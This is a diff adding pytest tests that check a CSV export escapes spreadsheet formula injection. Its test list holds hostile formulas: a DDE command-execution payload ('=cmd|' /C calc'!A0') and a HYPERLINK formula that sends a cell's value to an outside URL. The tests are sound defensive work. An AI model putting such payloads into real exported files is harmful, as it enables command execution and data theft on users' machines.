@@ -8,11 +8,21 @@ import io
 import json
 import re
 
+import pytest
 from rich.console import Console
 
 from tealeaves.models import Actor, Document, DocumentResult, InputError, Result, Span, Statement, Warning
 from tealeaves.sinks.output import (
-    CSV_FIELDS, csv_columns, format_error, render_table, write_csv, write_json, write_jsonl,
+    CSV_FIELDS,
+    FORMULA_STARTS,
+    csv_columns,
+    csv_text,
+    format_error,
+    plain_text,
+    render_table,
+    write_csv,
+    write_json,
+    write_jsonl,
 )
 
 TEXT = (
@@ -56,6 +66,31 @@ def _table(result: Result) -> str:
     console = Console(file=io.StringIO(), width=110, color_system=None)
     render_table(result, console)
     return console.file.getvalue()
+
+
+FORMULAS = ["=HYPERLINK(\"http://example.org/?\"&A1, \"open\")", "=cmd|' /C calc'!A0", "+1+2", "-2+3",
+            "@SUM(A1:A2)", "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "'=already quoted", "''@twice", "'plain", "plain", "", "'", "a=b"])
+def test_csv_text_never_starts_a_formula_and_gives_back_the_text(text):
+    cell = csv_text(text)
+    assert cell[:1] not in FORMULA_STARTS
+    assert plain_text(cell) == text
+    assert cell == text or cell == "'" + text
+
+
+def test_analyze_csv_cells_that_look_like_formulas_are_text():
+    [document] = _result().documents
+    speaker = dataclasses.replace(document.actors[0], name=FORMULAS[0], role=FORMULAS[1], side=FORMULAS[4])
+    hostile = dataclasses.replace(document, document=dataclasses.replace(document.document, source=FORMULAS[3]),
+                                  actors=(speaker, *document.actors[1:]))
+    stream = io.StringIO()
+    write_csv(Result(documents=(hostile,)), stream)
+    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
+    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row.values())
+    assert rows[0]["speaker_name"] == "'" + FORMULAS[0] and rows[0]["document_source"] == "'-2+3"
+    assert rows[0]["confidence"] == "0.9"  # numbers stay numbers
 
 
 def test_csv_has_one_row_per_statement_with_the_chosen_columns():
